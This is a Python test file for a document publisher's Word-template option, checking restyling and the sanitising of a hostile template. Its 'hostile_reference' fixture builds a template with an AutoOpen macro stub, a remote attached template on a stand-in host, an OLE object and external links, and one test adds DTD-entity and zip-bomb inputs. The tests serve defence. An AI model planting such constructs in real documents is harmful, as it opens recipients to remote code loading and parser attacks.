"""--reference-docx: a department's own Word template restyles the output, as in pandoc."""
from __future__ import annotations

from pathlib import Path

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from docx.shared import Mm, Pt, RGBColor

from publisher import cli
from publisher.model import Document

from .conftest import SEED

RED = RGBColor(0xC0, 0x00, 0x00)


def make_reference(path: Path) -> Path:
    """A second department template: red 18 pt Microsoft YaHei headings, B5 page, no Caption style."""
    template = docx.Document()
    heading = template.styles["Heading 1"]
    heading.font.size, heading.font.color.rgb, heading.font.bold = Pt(18), RED, True
    fonts = heading.element.get_or_add_rPr().get_or_add_rFonts()
    for attr in ("w:asciiTheme", "w:hAnsiTheme", "w:eastAsiaTheme", "w:cstheme"):
        fonts.attrib.pop(qn(attr), None)
    fonts.set(qn("w:eastAsia"), "Microsoft YaHei")
    template.styles["Caption"].delete()
    section = template.sections[0]
    section.orientation = WD_ORIENT.PORTRAIT
    section.page_width, section.page_height = Mm(176), Mm(250)
    section.left_margin = section.right_margin = Mm(20)
    template.add_paragraph("这段模板正文不应出现在输出里。")
    template.core_properties.comments = "部门模板"
    template.save(str(path))
    return path


@pytest.fixture(scope="module")
def restyled(tmp_path_factory: pytest.TempPathFactory) -> docx.document.Document:
    folder = tmp_path_factory.mktemp("docx-reference")
    reference = make_reference(folder / "docx-reference.docx")
    code = cli.main(["build", str(SEED), "--formats", "docx", "--out", str(folder),
                     "--reference-docx", str(reference)])
    assert code == 0
    return docx.Document(str(folder / f"{SEED.stem}.docx"))


def test_reference_styles_replace_the_layout(restyled: docx.document.Document, seed_doc: Document) -> None:
    heading = restyled.styles["Heading 1"]
    assert heading.font.color.rgb == RED and heading.font.size == Pt(18)
    fonts = heading.element.find(qn("w:rPr")).find(qn("w:rFonts"))
    assert fonts.get(qn("w:eastAsia")) == "Microsoft YaHei"
    assert [p.text for p in restyled.paragraphs if p.style.name == "Heading 1"] == \
        [f"{n}、{h.text[2:]}" for n, h in zip("一二三四", (h for h in seed_doc.headings if h.level == 2))]


def test_reference_page_setup_is_kept(restyled: docx.document.Document) -> None:
    section = restyled.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (176, 250)
    assert round(section.left_margin.mm) == 20
    width = section.page_width - section.left_margin - section.right_margin
    assert all(abs(shape.width - width) < Pt(1) for shape in restyled.inline_shapes)


def test_styles_the_reference_lacks_come_from_the_layout(restyled: docx.document.Document,
                                                         seed_doc: Document) -> None:
    captions = [p.text.replace("\n", "") for p in restyled.paragraphs if p.style.name == "Caption"]
    assert captions == [f"图{f.number} {f.caption_text}" for f in seed_doc.figures]
    # in the reference's fonts: no name of the layout's (KaiTi) overrides its house face
    lead = restyled.styles["Lead"].element
    assert lead.find(qn("w:rPr")) is None or lead.find(qn("w:rPr")).find(qn("w:rFonts")) is None
    assert restyled.styles["Lead"].base_style.name == "Normal"


def test_reference_content_and_properties_are_dropped(restyled: docx.document.Document,
                                                      seed_doc: Document) -> None:
    assert all("模板正文" not in p.text for p in restyled.paragraphs)
    assert restyled.core_properties.comments == ""
    assert restyled.core_properties.title == seed_doc.meta.title


def test_bad_reference_is_one_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fake = tmp_path / "not-word.docx"
    fake.write_text("plain text")
    code = cli.main(["build", str(SEED), "--formats", "docx", "--out", str(tmp_path),
                     "--reference-docx", str(fake)])
    assert code == 2
    assert "not a Word .docx file" in capsys.readouterr().err


# ---- a reference document carries a look, nothing else ---------------------------------

import re  # noqa: E402
import zipfile  # noqa: E402

from .conftest import assert_one_line_error  # noqa: E402

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://templates.example.org/department.dotm"


def _rewrite(path: Path, changes: dict[str, bytes | None], added: dict[str, bytes]) -> None:
    """Rewrite a zip package: `changes` replaces (or with None removes) members, `added` adds some."""
    with zipfile.ZipFile(path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    for name, data in changes.items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    members.update(added)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)


def hostile_reference(path: Path) -> Path:
    """A department template as an attacker would send it: a macro project, a remote template,
    custom XML, a header with an outside link and an OLE object (and a picture, which stays)."""
    template = docx.Document()
    header = template.sections[0].header
    header.paragraphs[0].add_run("江门市委办公室")
    header.add_paragraph().add_run().add_picture(str(Path(__file__).parent / "sources" / "images" / "square.png"),
                                                 width=Mm(10))
    # a photo in the template's own text: the text goes, and so must the photo
    template.add_paragraph().add_run().add_picture(str(Path(__file__).parent / "sources" / "images" / "map.jpg"),
                                                   width=Mm(40))
    template.save(str(path))
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        rels = package.read("word/_rels/document.xml.rels").decode()
        settings = package.read("word/settings.xml").decode()
        types = package.read("[Content_Types].xml").decode()
        header_name = next(n for n in names if n.startswith("word/header") and n.endswith(".xml"))
        header_xml = package.read(header_name).decode()
        header_rels_name = f"word/_rels/{header_name.split('/')[-1]}.rels"
        header_rels = package.read(header_rels_name).decode() if header_rels_name in names else \
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{R.replace("officeDocument/2006/relationships", "package/2006/relationships")}"></Relationships>'
        top_rels = package.read("_rels/.rels").decode()
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                        'Target="vbaProject.bin"/></Relationships>')
    settings = settings.replace("<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl"/><w:zoom', 1)
    settings_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
                     '</Relationships>')
    header_rels = header_rels.replace("</Relationships>",
                                      f'<Relationship Id="rIdWeb" Type="{R}/hyperlink" Target="http://evil.example.org/" '
                                      'TargetMode="External"/>'
                                      f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
                                      '</Relationships>')
    # the logo links to the department's site: the link goes, the logo stays
    header_xml = re.sub(r'(<wp:docPr [^>]*?)/>', rf'\1><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}" r:id="rIdWeb"/></wp:docPr>', header_xml, count=1)
    assert "hlinkClick" in header_xml
    header_xml = header_xml.replace(
        "</w:hdr>",
        f'<w:p xmlns:r="{R}"><w:hyperlink r:id="rIdWeb"><w:r><w:t>部门网站</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<o:OLEObject xmlns:r="{R}" Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p></w:hdr>')
    top_rels = top_rels.replace("</Relationships>",
                                f'<Relationship Id="rIdX" Type="{R}/customXml" Target="customXml/item1.xml"/></Relationships>')
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    _rewrite(path, {"word/_rels/document.xml.rels": rels.encode(), "word/settings.xml": settings.encode(),
                    "[Content_Types].xml": types.encode(), header_name: header_xml.encode(),
                    header_rels_name: header_rels.encode(), "_rels/.rels": top_rels.encode()},
             {"word/vbaProject.bin": b"Attribute VB_Name = \"AutoOpen\"", "word/_rels/settings.xml.rels": settings_rels.encode(),
              "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 an OLE package", "customXml/item1.xml": b"<secret/>"})
    return path


def package_bytes(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as package:
        return package.read(name)


def build_with(reference: Path, out: Path) -> tuple[int, Path]:
    code = cli.main(["build", str(SEED), "--formats", "docx", "--out", str(out), "--reference-docx", str(reference)])
    return code, out / f"{SEED.stem}.docx"


def test_macros_remote_templates_objects_and_outside_links_stay_out(tmp_path: Path) -> None:
    reference = hostile_reference(tmp_path / "template.docx")
    code, written = build_with(reference, tmp_path / "out")
    assert code == 0
    with zipfile.ZipFile(written) as package:
        names = package.namelist()
        everything = b"".join(package.read(n) for n in names)
    assert not [n for n in names if "vbaProject" in n or "embeddings" in n or "customXml" in n]
    for trace in (EVIL.encode(), b"evil.example.org", b"attachedTemplate", b"TargetMode=\"External\"",
                  b"OLEObject", b"vbaProject", b"customXml"):
        assert trace not in everything, trace
    # the look stays: the header's words, its picture, the link's words without the link
    word = docx.Document(str(written))
    header = word.sections[0].header
    texts = " ".join(p.text for p in header.paragraphs)
    assert "江门市委办公室" in texts and "部门网站" in texts
    media = {n: package_bytes(written, n) for n in names if n.startswith("word/media/")}
    square = (Path(__file__).parent / "sources" / "images" / "square.png").read_bytes()
    assert square in media.values() and header.paragraphs[1]._p.xpath(".//w:drawing")  # the logo, linked no more
    map_jpg = (Path(__file__).parent / "sources" / "images" / "map.jpg").read_bytes()
    assert map_jpg not in media.values()  # the template's own photo does not ship
    # the header's picture and the body's photos each have their own drawing id (Word repairs duplicates)
    with zipfile.ZipFile(written) as package:
        ids = [i for n in names if n.endswith(".xml") for i in re.findall(rb'<wp:docPr id="(\d+)"', package.read(n))]
    assert len(ids) == len(set(ids)) == 5, ids  # the logo and the seed's four photos
    code, _ = build_with(reference, tmp_path / "again")
    assert (tmp_path / "again" / written.name).read_bytes() == written.read_bytes()


@pytest.mark.parametrize("damage, says", [
    ("dtd", "declares a DTD (entities), which Word never writes"),
    ("truncated", "reference document's word/styles.xml cannot be read"),
    ("encrypted", "is encrypted or an old Word .doc"),
    ("bomb", "would unpack to more than 64 MB"),
])
def test_a_damaged_or_hostile_reference_is_one_line(tmp_path: Path, damage: str, says: str) -> None:
    reference = make_reference(tmp_path / "template.docx")
    if damage == "dtd":
        with zipfile.ZipFile(reference) as package:
            styles = package.read("word/styles.xml").decode()
        styles = styles.replace("?>", '?><!DOCTYPE w:styles [<!ENTITY lol "lol">]>', 1)
        _rewrite(reference, {"word/styles.xml": styles.encode()}, {})
    elif damage == "truncated":
        with zipfile.ZipFile(reference) as package:
            styles = package.read("word/styles.xml")
        _rewrite(reference, {"word/styles.xml": styles[: len(styles) // 2]}, {})
    elif damage == "encrypted":
        reference.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    else:
        _rewrite(reference, {}, {"word/media/huge.png": bytes(70 * 1024 * 1024)})
    import subprocess
    import sys
    result = subprocess.run([sys.executable, "-m", "publisher", "build", str(SEED), "--formats", "docx",
                             "--out", str(tmp_path / "out"), "--reference-docx", str(reference)],
                            capture_output=True, text=True)
    assert_one_line_error(result, str(reference), says)
    assert not (tmp_path / "out").exists()


def test_a_reference_without_page_setup_takes_the_layouts(tmp_path: Path) -> None:
    reference = make_reference(tmp_path / "template.docx")
    with zipfile.ZipFile(reference) as package:
        document = package.read("word/document.xml").decode()
    start, end = document.index("<w:sectPr"), document.index("</w:sectPr>") + len("</w:sectPr>")
    _rewrite(reference, {"word/document.xml": (document[:start] + document[end:]).encode()}, {})
    code, written = build_with(reference, tmp_path / "out")
    assert code == 0
    section = docx.Document(str(written)).sections[-1]
    assert round(section.page_width.mm) == 210 and round(section.top_margin.mm) == 37  # the department layout's
